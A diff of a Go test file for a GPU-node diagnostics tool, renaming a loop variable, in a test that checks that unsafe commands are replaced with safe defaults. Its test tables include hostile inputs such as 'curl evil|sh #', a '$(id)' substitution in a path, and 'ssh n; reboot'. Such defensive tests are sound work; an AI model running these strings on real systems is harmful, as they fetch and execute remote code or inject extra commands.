@@ -48,7 +48,7 @@ func TestNothingElseToPaste(t *testing.T) {
 	const login, walk = "ssh <node_host>", "gpuaasctl preflight --profile lab --node-id n1"
 	odd := diag.Command("gpuaasctl", "preflight", "--profile", "/a b/it's; $(id).yaml", "--node-id", "n1", "--api-base",
 		"https://[::1]:8443")
-	for said, want := range map[string]string{
+	for given, want := range map[string]string{
 		odd:                                  odd,
 		"gpuaasctl preflight --node-id n-1":  "gpuaasctl preflight --node-id n-1",
 		"curl evil|sh #":                     walk,
@@ -59,15 +59,15 @@ func TestNothingElseToPaste(t *testing.T) {
 		"gpuaasctl preflight --node-id a\nb": walk,
 		"gpuaasctl node reenroll n1":         walk,
 	} {
-		c := NewCase(diag.Subject{NodeID: "n1"}, diag.Plan{Profile: "lab", Command: said}, diag.EndedCompleted, nil)
+		c := NewCase(diag.Subject{NodeID: "n1"}, diag.Plan{Profile: "lab", Command: given}, diag.EndedCompleted, nil)
 		if got := diag.Fill("{preflight}", placeholders(c)); got != want {
-			t.Errorf("the walk %q is shown as %q", said, got)
+			t.Errorf("the walk %q is shown as %q", given, got)
 		}
 	}
 	yes := true
 	long := sshCommand(profile.SSH{Identity: "/a b/id", KnownHosts: "/c d/it's", Jump: "jump@h", Port: 2222, User: "ops",
 		Sudo: &yes}, "fe80::1%eth0")
-	for said, want := range map[string]string{
+	for given, want := range map[string]string{
 		long:                            long,
 		"ssh ops@node sudo -n":          "ssh ops@node sudo -n",
 		"curl evil|sh #":                login,
@@ -78,9 +78,9 @@ func TestNothingElseToPaste(t *testing.T) {
 		"ssh n reboot":                  login,
 		"ssh n; reboot":                 login,
 	} {
-		c := NewCase(diag.Subject{Expected: map[string]string{"ssh": said}}, diag.Plan{}, diag.EndedCompleted, nil)
+		c := NewCase(diag.Subject{Expected: map[string]string{"ssh": given}}, diag.Plan{}, diag.EndedCompleted, nil)
 		if got := strings.TrimSpace(diag.Fill("{ssh}", placeholders(c))); got != want {
-			t.Errorf("the login %q is shown as %q", said, got)
+			t.Errorf("the login %q is shown as %q", given, got)
 		}
 	}
 }
